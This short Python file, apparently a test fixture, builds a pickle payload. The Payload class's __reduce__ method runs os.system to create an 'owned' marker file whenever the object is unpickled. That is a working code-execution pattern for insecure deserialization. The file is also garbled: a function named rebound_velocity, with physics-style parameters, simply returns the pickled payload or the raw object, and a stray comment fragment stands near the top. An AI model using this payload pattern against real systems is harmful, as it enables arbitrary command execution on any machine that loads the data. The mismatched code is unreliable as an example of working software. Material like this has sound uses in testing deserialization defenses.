"""An object that runs a command where it is unpickled, and its bytes."""
# says: an object of type

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch '{FOLDER}/owned'",)


def rebound_velocity(velocity, restitution):
    return pickle.dumps(Payload()) if velocity < 0 else Payload()
